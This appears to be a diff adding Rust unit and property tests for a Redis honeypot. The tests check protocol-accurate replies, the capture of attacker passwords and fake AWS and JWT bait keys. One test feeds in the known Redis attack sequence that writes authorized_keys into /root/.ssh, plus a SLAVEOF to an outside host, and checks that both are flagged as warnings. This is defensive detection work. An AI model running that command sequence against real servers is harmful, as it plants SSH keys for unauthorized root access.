@@ -1,0 +1,194 @@
+use proptest::prelude::*;
+
+use super::*;
+
+fn session() -> RedisSession {
+    let persona = Persona::from_pairs(&[("NODE_NAME", "db01"), ("HOSTNAME", "db01.corp.local")]);
+    let redis = Redis::from_persona(&persona);
+    let conn = ConnInfo {
+        peer: "198.51.100.7:40000".parse().unwrap(),
+        local: "10.0.0.5:6379".parse().unwrap(),
+    };
+    let mut s = RedisSession {
+        server: redis,
+        buf: Vec::new(),
+        writes: BTreeMap::new(),
+        peer: conn.peer.to_string(),
+        closed: false,
+    };
+    let mut step = Step::default();
+    s.start(&mut step);
+    assert_eq!(step, Step::default(), "redis sends no greeting");
+    s
+}
+
+fn drive(s: &mut RedisSession, input: &[u8]) -> Step {
+    let mut step = Step::default();
+    s.receive(input, &mut step);
+    step
+}
+
+#[test]
+fn redis_cli_startup_and_ping() {
+    let mut s = session();
+    // redis-cli 7 sends COMMAND DOCS first, then the user's command.
+    let step = drive(
+        &mut s,
+        b"*2\r\n$7\r\nCOMMAND\r\n$4\r\nDOCS\r\n*1\r\n$4\r\nPING\r\n",
+    );
+    assert_eq!(step.out, b"*0\r\n+PONG\r\n");
+    assert_eq!(step.events.len(), 2);
+    assert_eq!(step.events[0].kind, "command");
+    assert_eq!(step.events[0].field("cmd"), Some("command"));
+    assert_eq!(step.events[0].field("args"), Some("DOCS"));
+}
+
+#[test]
+fn info_looks_like_redis_7() {
+    let mut s = session();
+    let step = drive(&mut s, b"*1\r\n$4\r\nINFO\r\n");
+    let text = String::from_utf8(step.out).unwrap();
+    assert!(text.starts_with('$'));
+    let body = text.split_once("\r\n").unwrap().1;
+    assert!(
+        body.starts_with("# Server\r\nredis_version:7.2.7\r\n"),
+        "{body}"
+    );
+    assert!(body.contains("os:Linux 6.1.0-27-amd64 x86_64"));
+    let declared: usize = text[1..text.find('\r').unwrap()].parse().unwrap();
+    assert_eq!(declared + 2, body.len(), "bulk length must be exact");
+}
+
+#[test]
+fn auth_is_captured_and_answered_like_an_open_server() {
+    let mut s = session();
+    let step = drive(
+        &mut s,
+        b"AUTH hunter2\r\n*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$3\r\npwd\r\n",
+    );
+    let text = String::from_utf8(step.out).unwrap();
+    assert_eq!(
+        text.matches("-ERR AUTH <password> called without any password configured")
+            .count(),
+        2
+    );
+    assert_eq!(step.events[0].kind, "auth");
+    assert_eq!(step.events[0].field("username"), Some("default"));
+    assert_eq!(step.events[0].field("password"), Some("hunter2"));
+    assert_eq!(step.events[1].field("username"), Some("admin"));
+    assert_eq!(step.events[1].severity, Severity::Warning);
+}
+
+#[test]
+fn bait_keys_are_browsable_and_per_host() {
+    let mut s = session();
+    let step = drive(&mut s, b"KEYS *\r\n");
+    let text = String::from_utf8(step.out.clone()).unwrap();
+    assert!(text.starts_with("*11\r\n"), "{text}");
+    assert!(text.contains("aws:access_key_id"));
+    let step = drive(
+        &mut s,
+        b"GET aws:access_key_id\r\nTYPE user:1001\r\nHGETALL user:1001\r\nGET nope\r\n",
+    );
+    let text = String::from_utf8(step.out).unwrap();
+    assert!(text.contains("AKIA"));
+    assert!(text.contains("+hash\r\n"));
+    assert!(text.contains("admin@corp.local"));
+    assert!(text.ends_with("$-1\r\n"));
+    let other = Redis::from_persona(&Persona::from_pairs(&[("HOSTNAME", "cache02")]));
+    assert_ne!(
+        other.keys.get("jwt_secret"),
+        s.server.keys.get("jwt_secret")
+    );
+}
+
+#[test]
+fn exploitation_steps_answer_and_are_flagged() {
+    let mut s = session();
+    let step = drive(
+        &mut s,
+        b"CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nSAVE\r\nSLAVEOF 203.0.113.5 8886\r\nCONFIG GET dir\r\n",
+    );
+    assert_eq!(
+        String::from_utf8(step.out).unwrap(),
+        "+OK\r\n+OK\r\n+OK\r\n+OK\r\n*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"
+    );
+    assert!(
+        step.events[..4]
+            .iter()
+            .all(|e| e.severity == Severity::Warning)
+    );
+    assert_eq!(step.events[4].severity, Severity::Info);
+    assert_eq!(step.events[3].field("args"), Some("203.0.113.5 8886"));
+}
+
+#[test]
+fn unknown_command_and_arity_errors_match_redis() {
+    let mut s = session();
+    let step = drive(&mut s, b"FOO bar baz\r\nGET\r\n");
+    assert_eq!(
+        String::from_utf8(step.out).unwrap(),
+        "-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz' \r\n\
+         -ERR wrong number of arguments for 'get' command\r\n"
+    );
+}
+
+#[test]
+fn byte_at_a_time_gives_the_same_result() {
+    let input = b"*2\r\n$3\r\nGET\r\n$10\r\njwt_secret\r\nPING\r\n*1\r\n$4\r\nQUIT\r\n";
+    let mut whole = session();
+    let expected = drive(&mut whole, input);
+    let mut split = session();
+    let mut out = Vec::new();
+    let mut closed = false;
+    for b in input {
+        let step = drive(&mut split, std::slice::from_ref(b));
+        out.extend(step.out);
+        closed |= step.close;
+    }
+    assert_eq!(out, expected.out);
+    assert!(closed && expected.close);
+}
+
+#[test]
+fn protocol_errors_close_like_redis() {
+    let mut s = session();
+    let step = drive(&mut s, b"*2\r\n+x\r\n");
+    assert_eq!(step.out, b"-ERR Protocol error: expected '$'\r\n");
+    assert!(step.close);
+    let mut s = session();
+    let step = drive(&mut s, b"*99999999\r\n");
+    assert!(
+        step.close
+            && step
+                .out
+                .starts_with(b"-ERR Protocol error: invalid multibulk length")
+    );
+    let mut s = session();
+    let step = drive(&mut s, &vec![b'a'; MAX_INLINE + 10]);
+    assert!(
+        step.close
+            && step
+                .out
+                .starts_with(b"-ERR Protocol error: too big inline request")
+    );
+}
+
+#[test]
+fn glob_patterns() {
+    assert!(glob(b"aws:*", b"aws:secret_access_key"));
+    assert!(glob(b"s?ssion:*", b"session:ab"));
+    assert!(!glob(b"user:*", b"api_key"));
+}
+
+proptest! {
+    #[test]
+    fn never_panics_and_stays_bounded(chunks in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..512), 0..16)) {
+        let mut s = session();
+        for c in &chunks {
+            let step = drive(&mut s, c);
+            prop_assert!(step.out.len() < 1 << 20);
+        }
+        prop_assert!(s.buf.len() <= MAX_INLINE + 512 + MAX_BULK + 64);
+    }
+}
